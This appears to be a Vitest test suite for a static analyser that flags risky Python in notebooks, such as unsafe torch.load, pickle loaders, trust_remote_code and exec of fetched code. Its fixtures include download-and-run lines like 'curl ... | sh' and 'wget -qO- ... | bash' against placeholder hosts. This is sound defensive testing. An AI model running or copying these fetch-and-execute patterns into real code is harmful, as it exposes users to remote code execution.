import { describe, expect, it } from "vitest";
import { pythonRisks } from "./python-risks.js";

/** [rule, severity, line, column] of every risk in one `.py` source. */
async function risks(source: string): Promise<[string, string, number, number][]> {
  const { risks } = await pythonRisks([{ source }]);
  return risks.map((r) => [r.rule.id, r.severity, r.line, r.column]);
}

describe("pythonRisks: torch.load", () => {
  it("grades torch.load by weights_only and where the file comes from", async () => {
    const src = [
      "import torch",
      "from huggingface_hub import hf_hub_download",
      "a = torch.load('model.pt', weights_only=False)",
      "path = hf_hub_download('org/m', 'model.bin')",
      "b = torch.load(path, weights_only=False)",
      "c = torch.load('model.pt')",
      "d = torch.load(path, map_location='cpu')",
      "e = torch.load('model.pt', weights_only=True)",
      "f = torch.load(ckpt, weights_only=args.safe)",
      "g = torch.hub.load_state_dict_from_url('https://x.test/m.pth')",
    ].join("\n");
    expect(await risks(src)).toEqual([
      ["notebook/torch-load-unsafe", "medium", 3, 5],
      ["notebook/torch-load-unsafe", "high", 5, 5],
      ["notebook/torch-load-unsafe", "low", 6, 5],
      ["notebook/torch-load-unsafe", "medium", 7, 5],
      ["notebook/torch-load-unsafe", "low", 9, 5],
      ["notebook/torch-load-unsafe", "medium", 10, 5],
    ]);
  });

  it("resolves aliases and from-imports, and says how the file was fetched", async () => {
    const { risks: found } = await pythonRisks([{ source: "import torch as t\nfrom torch import load as L\nimport requests, io\nbuf = io.BytesIO(requests.get(URL).content)\nt.load(buf, weights_only=False)\nL('x.pt', weights_only=False)\n" }]);
    expect(found.map((r) => [r.line, r.severity, r.evidence.call, r.evidence.source, r.evidence.via])).toEqual([
      [5, "high", "torch.load", "remote", "variable buf (requests.get)"],
      [6, "medium", "torch.load", "local", undefined],
    ]);
    expect(found[0]!.message).toBe("torch.load with weights_only=False of a remote file (variable buf (requests.get)) in line 5");
  });
});

describe("pythonRisks: pickle-based loaders", () => {
  it("reports pickle, joblib, dill, cloudpickle, pandas and numpy with allow_pickle, remote high and local medium", async () => {
    const src = [
      "import pickle as pk, joblib, dill, cloudpickle",
      "import numpy as np, pandas as pd",
      "from pickle import loads",
      "from urllib.request import urlopen",
      "m = pk.load(open('m.pkl', 'rb'))",
      "n = loads(urlopen('https://x.test/p').read())",
      "o = joblib.load('clf.joblib')",
      "p = dill.loads(blob)",
      "q = cloudpickle.load(fh)",
      "r = pd.read_pickle('https://x.test/df.pkl')",
      "s = np.load('a.npy', allow_pickle=True)",
      "t = np.load('a.npy')",
      "u = np.load('a.npy', allow_pickle=False)",
    ].join("\n");
    expect(await risks(src)).toEqual([
      ["notebook/pickle-load", "medium", 5, 5],
      ["notebook/pickle-load", "high", 6, 5],
      ["notebook/pickle-load", "medium", 7, 5],
      ["notebook/pickle-load", "medium", 8, 5],
      ["notebook/pickle-load", "medium", 9, 5],
      ["notebook/pickle-load", "high", 10, 5],
      ["notebook/pickle-load", "medium", 11, 5],
    ]);
  });

  it("folds module synonyms (cPickle, _pickle, sklearn.externals.joblib) and __import__", async () => {
    expect(await risks("import cPickle\nfrom sklearn.externals import joblib\ncPickle.load(f)\njoblib.load('m.pkl')\n__import__('pickle').loads(b)\n")).toEqual([
      ["notebook/pickle-load", "medium", 3, 1],
      ["notebook/pickle-load", "medium", 4, 1],
      ["notebook/pickle-load", "medium", 5, 1],
    ]);
  });
});

describe("pythonRisks: trust_remote_code, Keras safe_mode", () => {
  it("reports trust_remote_code=True high unless pinned to a commit or local", async () => {
    const src = [
      "from transformers import AutoModel",
      "a = AutoModel.from_pretrained('org/model', trust_remote_code=True)",
      "b = AutoModel.from_pretrained('org/model', trust_remote_code=True, revision='0123456789abcdef0123456789abcdef01234567')",
      "c = AutoModel.from_pretrained('./local-model', trust_remote_code=True)",
      "d = AutoModel.from_pretrained('org/model', trust_remote_code=args.trust)",
      "e = AutoModel.from_pretrained('org/model', trust_remote_code=False)",
    ].join("\n");
    expect(await risks(src)).toEqual([
      ["notebook/trust-remote-code", "high", 2, 62],
      ["notebook/trust-remote-code", "medium", 3, 62],
      ["notebook/trust-remote-code", "medium", 4, 66],
      ["notebook/trust-remote-code", "low", 5, 62],
    ]);
  });

  it("reports Keras safe_mode=False and enable_unsafe_deserialization", async () => {
    const src = [
      "import keras",
      "import tensorflow as tf",
      "m = keras.models.load_model('m.keras', safe_mode=False)",
      "n = tf.keras.models.load_model(keras.utils.get_file('m.keras', 'https://x.test/m.keras'), safe_mode=False)",
      "keras.config.enable_unsafe_deserialization()",
      "o = keras.models.load_model('m.keras')",
    ].join("\n");
    expect(await risks(src)).toEqual([
      ["notebook/keras-unsafe-mode", "medium", 3, 50],
      ["notebook/keras-unsafe-mode", "high", 4, 101],
      ["notebook/keras-unsafe-mode", "medium", 5, 1],
    ]);
  });
});

describe("pythonRisks: exec and commands of downloaded content", () => {
  it("reports exec/eval of fetched content, through variables and with blocks", async () => {
    const src = [
      "import requests",
      "from urllib.request import urlopen",
      "exec(requests.get('https://x.test/a.py').text)",
      "r = requests.get(url)",
      "code = r.text",
      "exec(code)",
      "with urlopen(u) as resp:",
      "    eval(resp.read())",
      "code = open('local.py').read()",
      "exec(code)",
      "eval('1 + 1')",
    ].join("\n");
    expect(await risks(src)).toEqual([
      ["notebook/exec-fetched-code", "high", 3, 1],
      ["notebook/exec-fetched-code", "high", 6, 1],
      ["notebook/exec-fetched-code", "high", 8, 5],
    ]);
  });

  it("reports subprocess/os.system given downloaded content, and shell strings that pipe a download into a shell", async () => {
    const src = [
      "import os, subprocess, requests",
      "from urllib.request import urlretrieve",
      "script = requests.get(u).text",
      "subprocess.run(['bash', '-c', script])",
      "path, _ = urlretrieve(u, 'x.sh')",
      "os.system(f'bash {path}')",
      "os.system('curl -fsSL https://get.tool.test/i.sh | sh')",
      "subprocess.run('wget -qO- https://x.test/s | bash', shell=True)",
      "subprocess.run(['wget', 'https://x.test/setup.sh'])",
      "subprocess.run(['bash', 'setup.sh'])",
      "subprocess.run(['wget', 'https://data.test/train.csv'])",
      "os.system('ls -la')",
    ].join("\n");
    expect(await risks(src)).toEqual([
      ["notebook/command-fetched", "high", 4, 1],
      ["notebook/command-fetched", "high", 6, 1],
      ["notebook/shell-download-exec", "high", 7, 11],
      ["notebook/shell-download-exec", "high", 8, 16],
      ["notebook/shell-download-exec", "high", 10, 16],
    ]);
  });
});

describe("pythonRisks: what is not code", () => {
  it("reports nothing for strings, comments, docstrings and safe ML code", async () => {
    const src = [
      '"""Loads with pickle.load(f) and torch.load(p) — documentation only."""',
      "import torch, numpy as np, json",
      "# pickle.load(open('x.pkl','rb')); torch.load('x.pt')",
      "msg = \"don't call pickle.load or exec(requests.get(u).text)\"",
      "state = torch.load('model.pt', weights_only=True, map_location='cpu')",
      "arr = np.load('features.npy')",
      "cfg = json.load(open('config.json'))",
      "model.load_state_dict(state)",
      "ds = load_dataset('imdb')",
      "def load(path):",
      "    return np.load(path, allow_pickle=False)",
    ].join("\n");
    expect(await risks(src)).toEqual([]);
  });

  it("does not parse a program that names nothing the rules look for", async () => {
    const analysis = await pythonRisks([{ source: "import numpy as np\nx = np.arange(10)\nprint(x.sum())\n" }]);
    expect(analysis.parsedUnits).toBe(0);
  });

  it("makes code the parser could not read incomplete when it names a risky call", async () => {
    const analysis = await pythonRisks([{ source: "import os\nx = pickle.load(f\ny = 2 +\n" }]);
    expect(analysis.syntaxErrorUnits).toBe(1);
    expect(analysis.unchecked).toEqual(["line 2: Python the parser could not read mentions `load`, not checked for runtime risks"]);
    // A syntax error elsewhere, or a risky name in a string of the broken region, does not.
    const benign = await pythonRisks([{ source: "import torch\nstate = torch.load(p, weights_only=True)\nprint 'pickle.load' +\n" }]);
    expect(benign.unchecked).toEqual([]);
  });
});

describe("pythonRisks: values that cross functions", () => {
  it("judges remote a download returned by one function and loaded by another (and by the caller)", async () => {
    const src = [
      "import torch, pickle",
      "from huggingface_hub import hf_hub_download",
      "def fetch_weights(repo):",
      "    path = hf_hub_download(repo, 'model.bin')",
      "    return path",
      "def fetch_index():",
      "    return fetch_weights('org/index')",
      "def load():",
      "    state = torch.load(fetch_weights('org/m'), weights_only=False)",
      "    with open(fetch_index(), 'rb') as f:",
      "        return pickle.load(f)",
      "p = fetch_weights('org/m')",
      "torch.load(p, weights_only=False)",
    ].join("\n");
    const { risks: found } = await pythonRisks([{ source: src }]);
    expect(found.map((r) => [r.rule.id, r.severity, r.line, r.evidence.source])).toEqual([
      ["notebook/torch-load-unsafe", "high", 9, "remote"],
      ["notebook/pickle-load", "high", 11, "remote"],
      ["notebook/torch-load-unsafe", "high", 13, "remote"],
    ]);
    expect(found[0]!.evidence.via).toBe("fetch_weights() returning variable path (huggingface_hub.hf_hub_download)");
  });

  it("follows a download passed as an argument, positional, keyword or to a method through self", async () => {
    const src = [
      "import torch, joblib, requests",
      "from huggingface_hub import hf_hub_download",
      "def load_model(ckpt, device='cpu'):",
      "    return torch.load(ckpt, map_location=device, weights_only=False)",
      "def load_clf(*, path):",
      "    return joblib.load(path)",
      "class Runner:",
      "    def restore(self, blob):",
      "        return torch.load(blob, weights_only=False)",
      "    def run(self, url):",
      "        data = requests.get(url).content",
      "        return self.restore(data)",
      "load_model(hf_hub_download('org/m', 'm.pt'))",
      "load_clf(path='https://x.test/clf.joblib')",
    ].join("\n");
    expect(await risks(src)).toEqual([
      ["notebook/torch-load-unsafe", "high", 4, 12],
      ["notebook/pickle-load", "high", 6, 12],
      ["notebook/torch-load-unsafe", "high", 9, 16],
    ]);
  });

  it("judges remote a module-level download read in a function defined before it, and a self attribute set by another method", async () => {
    const src = [
      "import torch, pickle",
      "from urllib.request import urlretrieve",
      "def restore():",
      "    return torch.load(CHECKPOINT, weights_only=False)",
      "class Model:",
      "    def __init__(self):",
      "        self.weights, _ = urlretrieve('https://x.test/w.pkl', 'w.pkl')",
      "    def load(self):",
      "        with open(self.weights, 'rb') as f:",
      "            return pickle.load(f)",
      "CHECKPOINT, _ = urlretrieve('https://x.test/m.pt', 'm.pt')",
    ].join("\n");
    expect(await risks(src)).toEqual([
      ["notebook/torch-load-unsafe", "high", 4, 12],
      ["notebook/pickle-load", "high", 10, 20],
    ]);
  });

  it("keeps local what only local code touches, and stays bounded on functions that call each other", async () => {
    const src = [
      "import torch, requests",
      "def latest():",
      "    return 'checkpoints/last.pt'",
      "def ping(n):",
      "    return pong(n - 1)",
      "def pong(n):",
      "    return ping(n - 1)",
      "def load(path):",
      "    return torch.load(path, weights_only=False)",
      "status = requests.get('https://x.test/health').status_code",
      "load(latest())",
      "load(ping(3))",
      "CACHE = 'cache/model.pt'",
      "def restore():",
      "    return torch.load(CACHE, weights_only=False)",
    ].join("\n");
    expect(await risks(src)).toEqual([
      ["notebook/torch-load-unsafe", "medium", 9, 12],
      ["notebook/torch-load-unsafe", "medium", 15, 12],
    ]);
  });

  it("carries a function defined in one notebook cell to a load in a later cell", async () => {
    const { risks: found } = await pythonRisks([
      { source: "import joblib, requests, io\ndef get_model(url):\n    return io.BytesIO(requests.get(url).content)\n", cell: 1 },
      { source: "clf = joblib.load(get_model(MODEL_URL))\n", cell: 2 },
    ]);
    expect(found.map((r) => [r.rule.id, r.severity, r.unit, r.evidence.via])).toEqual([["notebook/pickle-load", "high", 1, "get_model() returning requests.get"]]);
  });
});
